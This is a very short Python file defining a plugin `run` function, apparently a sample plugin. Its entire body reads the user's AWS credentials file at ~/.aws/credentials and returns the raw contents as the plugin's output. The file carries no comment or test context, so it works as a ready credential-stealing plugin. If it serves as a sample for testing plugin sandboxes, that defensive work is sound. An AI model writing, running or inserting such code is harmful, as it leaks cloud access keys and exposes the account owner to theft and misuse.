import os

def run(plugin_config, context):
    name = os.path.expanduser("~/.aws/credentials")
    return {"output": open(name).read()}
